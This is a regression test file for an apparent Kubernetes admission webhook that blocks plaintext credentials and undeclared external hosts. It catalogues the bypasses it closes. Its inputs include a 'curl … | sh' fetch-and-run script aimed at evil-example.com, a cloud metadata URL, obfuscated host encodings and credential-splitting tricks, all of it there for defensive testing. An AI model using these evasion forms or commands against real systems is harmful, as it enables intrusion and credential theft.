// Each bypass found by trying main as an attacker would (issue 9), closed and kept closed.
// Every case is judged through the one judge, as the webhook judges it.

import { expect } from 'chai';
import { handleAdmission } from '../../src/admission/handler.ts';
import { judge, type Judgement } from '../../src/policy/judge.ts';
import { FAKE_PASSWORD, pod } from '../helpers/objects.ts';
import { catalogOf, judgeCreate, policyOf } from '../helpers/policy.ts';

type Json = Record<string, any>;

/** A Pod whose one container gets `extra` fields (probes, lifecycle, env...). */
const podWith = (extra: Json): Json => {
  const p: Json = pod({ containers: [{}] });
  Object.assign(p['spec'].containers[0], extra);
  return p;
};
const rules = (j: Judgement): string[] => j.verdict.violations.map((v) => `${v.rule} ${v.path}`);
const denied = (obj: Json): Judgement => {
  const j = judgeCreate(obj, catalogOf([]));
  expect(j.verdict.allowed, JSON.stringify(j.verdict.violations)).to.equal(false);
  return j;
};
const allowed = (obj: Json): void => {
  const j = judgeCreate(obj, catalogOf([]));
  expect(j.verdict.violations, JSON.stringify(j.verdict.violations)).to.deep.equal([]);
};

describe('bypasses closed', () => {
  describe('fields that were never read', () => {
    it('a password in a probe exec command (redis-cli -a)', () => {
      const j = denied(podWith({ livenessProbe: { exec: { command: ['redis-cli', '-a', FAKE_PASSWORD, 'ping'] } } }));
      expect(rules(j)).to.deep.equal(['plaintext-credential spec.containers[0].livenessProbe.exec.command[2]']);
    });

    for (const probe of ['readinessProbe', 'startupProbe']) {
      it(`a password in a ${probe} script`, () => {
        const j = denied(podWith({ [probe]: { exec: { command: ['sh', '-c', `mysql -uroot -p${FAKE_PASSWORD} -e 'select 1'`] } } }));
        expect(rules(j)).to.deep.equal([`plaintext-credential spec.containers[0].${probe}.exec.command[2]`]);
      });
    }

    for (const hook of ['postStart', 'preStop']) {
      it(`a password in a lifecycle ${hook} command`, () => {
        const j = denied(podWith({ lifecycle: { [hook]: { exec: { command: ['app', `--password=${FAKE_PASSWORD}`] } } } }));
        expect(rules(j)).to.deep.equal([`plaintext-credential spec.containers[0].lifecycle.${hook}.exec.command[1]`]);
      });
    }

    it('a bearer token in a probe httpGet header, and a sensitive-named header', () => {
      const j = denied(podWith({ readinessProbe: { httpGet: { port: 80, httpHeaders: [{ name: 'Authorization', value: `Bearer ${FAKE_PASSWORD}` }, { name: 'X-Api-Key', value: FAKE_PASSWORD }, { name: 'Accept', value: 'application/json' }] } } }));
      expect(rules(j)).to.deep.equal([
        'plaintext-credential spec.containers[0].readinessProbe.httpGet.httpHeaders[0].value',
        'plaintext-credential spec.containers[0].readinessProbe.httpGet.httpHeaders[1].value',
      ]);
    });

    it('an undeclared host in a probe exec command', () => {
      const j = denied(podWith({ livenessProbe: { exec: { command: ['curl', '-f', 'https://status.partner-example.com/health'] } } }));
      expect(rules(j)).to.deep.equal(['undeclared-external-host spec.containers[0].livenessProbe.exec.command[2]']);
    });

    it('leaves probes that carry no credential alone', () => {
      allowed(podWith({
        livenessProbe: { exec: { command: ['redis-cli', 'ping'] } },
        readinessProbe: { httpGet: { port: 80, httpHeaders: [{ name: 'Authorization', value: 'Bearer $(TOKEN)' }] } },
        env: [{ name: 'TOKEN', valueFrom: { secretKeyRef: { name: 's', key: 'k' } } }],
      }));
    });
  });

  describe('ephemeral containers (kubectl debug)', () => {
    const cat = catalogOf([]);
    const p = policyOf();
    const withEphemeral = (env: Json[]): Json => {
      const obj: Json = pod({ containers: [{}] });
      obj['spec'].ephemeralContainers = [{ name: 'debugger', image: 'busybox', env }];
      return obj;
    };
    const update = (object: Json, oldObject: Json): Judgement =>
      judge({ operation: 'UPDATE', subResource: 'ephemeralcontainers', object, oldObject, dryRun: false }, cat, p);

    it('judges an ephemeral container added through the subresource', () => {
      const j = update(withEphemeral([{ name: 'DB_PASSWORD', value: FAKE_PASSWORD }]), pod({ containers: [{}] }));
      expect(j.verdict.allowed).to.equal(false);
      expect(rules(j)).to.deep.equal(['plaintext-credential spec.ephemeralContainers[0].env[0].value']);
      expect(j.verdict.patch, 'never injected into').to.deep.equal([]);
    });

    it('does not judge again the ones already there, nor the Pod\'s other containers', () => {
      const leakyPod = pod({ containers: [{ env: [{ name: 'DB_PASSWORD', value: FAKE_PASSWORD }] }] });
      const old = withEphemeral([{ name: 'DB_PASSWORD', value: FAKE_PASSWORD }]);
      expect(update(old, old).verdict.allowed).to.equal(true);
      const added: Json = structuredClone(leakyPod);
      added['spec'].ephemeralContainers = [{ name: 'clean', image: 'busybox' }];
      expect(update(added, leakyPod).verdict.allowed).to.equal(true);
    });
  });

  describe('references next to literals', () => {
    it('the $(EMPTY) trick: an empty variable in front of a literal password', () => {
      const j = denied(podWith({ env: [{ name: 'EMPTY', value: '' }, { name: 'DB_PASSWORD', value: `$(EMPTY)${FAKE_PASSWORD}` }] }));
      expect(rules(j)).to.deep.equal(['plaintext-credential spec.containers[0].env[1].value']);
    });

    it('a password assembled from variables defined earlier', () => {
      const half = FAKE_PASSWORD.length >> 1;
      denied(podWith({ env: [{ name: 'A', value: FAKE_PASSWORD.slice(0, half) }, { name: 'B', value: FAKE_PASSWORD.slice(half) }, { name: 'DB_PASSWORD', value: '$(A)$(B)' }] }));
    });

    it('$$ escapes a reference: the program gets the literal text', () => {
      denied(podWith({ env: [{ name: 'DB_PASSWORD', value: `$$(${FAKE_PASSWORD.replace(/\W/g, '')})` }] }));
    });

    it('a literal next to a secretKeyRef variable or a ${…} placeholder is judged', () => {
      denied(podWith({ env: [{ name: 'S', valueFrom: { secretKeyRef: { name: 's', key: 'k' } } }, { name: 'DB_PASSWORD', value: `$(S)${FAKE_PASSWORD}` }] }));
      denied(podWith({ env: [{ name: 'DB_PASSWORD', value: `\${PREFIX}${FAKE_PASSWORD}` }] }));
      denied(podWith({ env: [{ name: 'DB_PASSWORD', value: `{{ .Values.x }}${FAKE_PASSWORD}` }] }));
      denied(podWith({ env: [{ name: 'DB_PASSWORD', value: `\${DB_PASSWORD:-${FAKE_PASSWORD}}` }] }));
    });

    it('whole references and placeholders stay allowed', () => {
      allowed(podWith({
        env: [
          { name: 'S', valueFrom: { secretKeyRef: { name: 's', key: 'k' } } },
          { name: 'DB_PASSWORD', value: '$(S)' },
          { name: 'API_TOKEN', value: '${API_TOKEN}' },
          { name: 'CLIENT_SECRET', value: '{{ .Values.clientSecret }}' },
          { name: 'AUTH_HEADER_VALUE', value: 'Bearer $(S)' },
          { name: 'REDIS_PASSWORD', value: '$(UNDEFINED_AT_ADMISSION)' },
        ],
        args: ['--password=$(S)', '--token', '${TOKEN}'],
      }));
    });

    it('a host assembled through $(VAR) is judged where it is used', () => {
      const j = denied(podWith({ env: [{ name: 'API_HOST', value: 'api' }, { name: 'API_URL', value: 'https://$(API_HOST).partner-example.com/v1' }] }));
      expect(j.verdict.violations.map((v) => v.message).join('\n')).to.contain('"api.partner-example.com"');
    });
  });

  describe('hosts next to values only known at run time', () => {
    const E = { name: 'E', valueFrom: { secretKeyRef: { name: 's', key: 'k' } } };
    const hostsOf = (j: Judgement): string[] => j.verdict.violations.map((v) => /host(?: under)? "([^"]+)"/.exec(v.message)?.[1] ?? '?');

    it('an opaque part glued to a host does not hide it', () => {
      expect(hostsOf(denied(podWith({ env: [E, { name: 'API_URL', value: 'https://api.partner-example.com$(E)/v1' }] })))).to.deep.equal(['api.partner-example.com']);
      expect(hostsOf(denied(podWith({ env: [E], args: ['--upstream=$(E)api.partner-example.com:443'] })))).to.deep.equal(['api.partner-example.com']);
    });

    it('leading labels chosen at run time still name a host under the literal suffix', () => {
      const j = denied(podWith({ env: [E, { name: 'API_URL', value: 'https://$(E).partner-example.com/v1' }], command: ['sh', '-c', 'curl https://$REGION.other-example.net/x'] }));
      expect(hostsOf(j)).to.deep.equal(['partner-example.com', 'other-example.net']);
      expect(j.verdict.warnings.join('\n')).to.contain('"*.partner-example.com"');
    });

    it('such a host is declared by a *.suffix allowedHosts entry, or by a declaration under the suffix', () => {
      const obj = podWith({ env: [E, { name: 'API_URL', value: 'https://$(E).partner-example.com/v1' }] });
      expect(judgeCreate(obj, catalogOf([]), policyOf('allowedHosts: ["*.partner-example.com"]\n')).verdict.allowed).to.equal(true);
      const declared = { apiVersion: 'v1', kind: 'Service', metadata: { name: 'eu', namespace: 'shop' }, spec: { type: 'ExternalName', externalName: 'eu.partner-example.com' } };
      expect(judgeCreate(obj, catalogOf([declared])).verdict.allowed).to.equal(true);
    });

    it('in-cluster names and addresses built from variables stay internal', () => {
      allowed(podWith({
        env: [E, { name: 'DB_URL', value: 'postgres://$(E).$(E).svc.cluster.local:5432/app' }, { name: 'PEER', value: '$(E):8080' }, { name: 'H', value: '$(E).shop.svc' }],
        args: ['--listen=$(E):9090'],
      }));
    });
  });

  describe('fields that reach a host and were never read (issue 14)', () => {
    const spec = (extra: Json): Json => { const p: Json = pod({ containers: [{}] }); Object.assign(p['spec'], extra); return p; };
    const cases: [string, Json, string][] = [
      ['a probe httpGet.host (the kubelet connects from the node)', podWith({ readinessProbe: { httpGet: { host: 'status.partner-example.com', port: 443, path: '/' } } }), 'spec.containers[0].readinessProbe.httpGet.host'],
      ['a probe tcpSocket.host', podWith({ livenessProbe: { tcpSocket: { host: '93.184.216.10', port: 5432 } } }), 'spec.containers[0].livenessProbe.tcpSocket.host'],
      ['a lifecycle httpGet.host', podWith({ lifecycle: { preStop: { httpGet: { host: 'hooks.partner-example.com', port: 443 } } } }), 'spec.containers[0].lifecycle.preStop.httpGet.host'],
      ['hostAliases pinning a name to a public address', spec({ hostAliases: [{ ip: '93.184.216.7', hostnames: ['api.declared-example.com'] }] }), 'spec.hostAliases[0].ip'],
      ['dnsConfig nameservers', spec({ dnsPolicy: 'None', dnsConfig: { nameservers: ['10.0.0.10', '8.8.8.8'] } }), 'spec.dnsConfig.nameservers[1]'],
      ['an NFS server', spec({ volumes: [{ name: 'v', nfs: { server: 'nfs.partner-example.com', path: '/x' } }] }), 'spec.volumes[0].nfs.server'],
      ['an iSCSI portal', spec({ volumes: [{ name: 'v', iscsi: { targetPortal: '93.184.216.20:3260', iqn: 'iqn.x', lun: 0, portals: ['93.184.216.21:3260'] } }] }), 'spec.volumes[0].iscsi.targetPortal'],
      ['a gitRepo volume', spec({ volumes: [{ name: 'v', gitRepo: { repository: 'https://git.partner-example.com/org/repo.git' } }] }), 'spec.volumes[0].gitRepo.repository'],
      ['Ceph monitors', spec({ volumes: [{ name: 'v', cephfs: { monitors: ['ceph.partner-example.com:6789'] } }] }), 'spec.volumes[0].cephfs.monitors[0]'],
    ];
    for (const [what, obj, path] of cases) {
      it(what, () => {
        const j = denied(obj);
        expect(rules(j)).to.include(`undeclared-external-host ${path}`);
      });
    }

    it('a password in a gitRepo URL is a credential, and the pod spec is named as its holder', () => {
      const j = denied(spec({ volumes: [{ name: 'v', gitRepo: { repository: `https://bot:${FAKE_PASSWORD}@git.partner-example.com/r.git` } }] }));
      expect(rules(j)).to.include('plaintext-credential spec.volumes[0].gitRepo.repository');
      expect(j.verdict.violations[0]!.message).to.contain('the pod spec has a plaintext credential');
      expect(JSON.stringify(j.verdict)).not.to.contain(FAKE_PASSWORD);
    });

    it('leaves in-cluster probes, aliases, resolvers and volumes alone', () => {
      allowed(spec({
        hostAliases: [{ ip: '10.1.2.3', hostnames: ['legacy'] }, { ip: '127.0.0.1', hostnames: ['local'] }],
        dnsConfig: { nameservers: ['10.96.0.10'] },
        volumes: [{ name: 'v', nfs: { server: 'nfs.storage.svc.cluster.local', path: '/' } }, { name: 'w', nfs: { server: '192.168.1.5', path: '/' } }],
        containers: [{ name: 'app', image: 'x', readinessProbe: { httpGet: { port: 8080, path: '/ready' } }, livenessProbe: { tcpSocket: { host: 'localhost', port: 1 } } }],
      }));
    });
  });

  describe('hosts a determined tenant writes, in every place a container carries text (issue 14)', () => {
    // Each form resolves to the host on the right in curl, Node's URL parser or glibc.
    const forms: [string, string][] = [
      ['http://134744072/', '8.8.8.8'],
      ['http://0x8.0x8.0x8.0x8/', '8.8.8.8'],
      ['http://010.010.010.010/', '8.8.8.8'],
      ['http://%65vil-example.com/', 'evil-example.com'],
      ['http://evil-example\u3002com/', 'evil-example.com'],
      ['http://evil-example.com\\@declared.partner-example.com/', 'evil-example.com'],
      [`http://${'u'.repeat(600)}@evil-example.com/`, 'evil-example.com'],
      ['https://svc.evil-example.com/', 'svc.evil-example.com'],
      ['http://169.254.169.254/latest/meta-data/', '169.254.169.254'],
      ['git@evil-example.com:org/repo.git', 'evil-example.com'],
    ];
    const places: [string, (v: string) => Json][] = [
      // A variable whose name says it holds a URL (issue 20: under a name that says nothing, only
      // a URL is judged, and `git@host:path` is not one).
      ['an env value', (v) => podWith({ env: [{ name: 'SOURCE_URL', value: v }] })],
      ['args', (v) => podWith({ args: ['--upstream', v] })],
      ['an sh -c script', (v) => podWith({ command: ['sh', '-c', `set -e; curl -fsS '${v}' | sh`] })],
      ['a probe exec command', (v) => podWith({ livenessProbe: { exec: { command: ['wget', '-q', v] } } })],
      ['a lifecycle exec script', (v) => podWith({ lifecycle: { postStart: { exec: { command: ['/bin/sh', '-c', `git clone "${v}" /src`] } } } })],
    ];
    for (const [value, host] of forms) {
      for (const [where, make] of places) {
        it(`${JSON.stringify(value.length > 60 ? `${value.slice(0, 30)}…` : value)} in ${where} is ${host}`, () => {
          const j = denied(make(value));
          const shown = j.verdict.violations.filter((v) => v.rule === 'undeclared-external-host').map((v) => /host "([^"]+)"/.exec(v.message)?.[1]);
          expect(shown).to.include(host);
        });
      }
    }
  });

  describe('credentials kept in ConfigMaps', () => {
    it('flags a sensitive name read from a ConfigMap, with the fix: move it into a Secret', () => {
      const j = denied(podWith({ env: [{ name: 'DB_PASSWORD', valueFrom: { configMapKeyRef: { name: 'app-config', key: 'db-password' } } }] }));
      expect(rules(j)).to.deep.equal(['plaintext-credential spec.containers[0].env[0].valueFrom.configMapKeyRef']);
      expect(j.verdict.violations[0]!.message).to.match(/ConfigMap.*move it into a Secret/);
    });

    it('leaves settings read from a ConfigMap alone', () => {
      allowed(podWith({ env: [{ name: 'DB_HOST', valueFrom: { configMapKeyRef: { name: 'c', key: 'h' } } }, { name: 'PASSWORD_FILE', valueFrom: { configMapKeyRef: { name: 'c', key: 'f' } } }] }));
    });
  });

  describe('credential echo', () => {
    it('a password shaped like a host is reported, and neither the message nor the warning shows it', () => {
      const pw = ['summer', '2024', '.io'].join('');
      const j = denied(podWith({ env: [{ name: 'DB_PASSWORD', value: pw }, { name: 'P', value: `x${pw}` }, { name: 'TOKEN_VALUE', value: '$(P)' }] }));
      expect(JSON.stringify(j.verdict)).not.to.contain(pw);
      expect(rules(j)).to.include('plaintext-credential spec.containers[0].env[0].value');
      // P says nothing about hosts (issue 20): only a shape, warned about without being shown.
      expect(j.verdict.warnings.some((w) => w.includes('spec.containers[0].env[1].value') && w.includes('not judged'))).to.equal(true);
    });

    it('a host position in a value that flows into a credential is reported without the host', () => {
      const host = ['summer', '2024', '.io'].join('');
      const j = denied(podWith({ env: [{ name: 'DB_HOST', value: host }, { name: 'DB_PASSWORD', value: '$(DB_HOST)' }] }));
      expect(JSON.stringify(j.verdict)).not.to.contain(host);
      expect(rules(j)).to.include('undeclared-external-host spec.containers[0].env[0].value');
    });

    it('still shows a host in a value that holds no credential', () => {
      const j = denied(podWith({ env: [{ name: 'API_URL', value: 'https://api.partner-example.com' }] }));
      expect(j.verdict.violations[0]!.message).to.contain('api.partner-example.com');
    });
  });

  describe('expansion bombs', () => {
    const bomb = (): Json => {
      const env: Json[] = [{ name: 'A0', value: 'x'.repeat(4096) }];
      for (let i = 1; i < 30; i++) env.push({ name: `A${i}`, value: `$(A${i - 1})$(A${i - 1})` });
      return podWith({ env });
    };
    const review = (ns: string) => ({ uid: 'u1', operation: 'CREATE', namespace: ns, name: 'p', kind: { group: '', version: 'v1', kind: 'Pod' }, object: bomb() });
    const cat = catalogOf([{ apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'loose', labels: { 'extguard.io/mode': 'warn' } } }]);

    it('are denied in enforce as too complex to judge, without building the expansion', () => {
      const r = handleAdmission('validate', review('shop'), cat, policyOf()).review.response;
      expect(r.allowed).to.equal(false);
      expect(r.status!.message).to.match(/too complex to judge/);
    });

    it('are admitted with a warning in warn mode; /mutate runs no rule, so it answers at once, leaving the refusal to /validate', () => {
      const r = handleAdmission('validate', review('loose'), cat, policyOf()).review.response;
      expect(r.allowed).to.equal(true);
      expect(r.warnings!.join('\n')).to.match(/unjudged.*too complex/);
      const m = handleAdmission('mutate', review('shop'), cat, policyOf());
      expect(m.unjudged).to.equal(undefined);
      expect([m.review.response.allowed, m.review.response.patch, m.review.response.warnings]).to.deep.equal([true, undefined, undefined]);
    });
  });
});
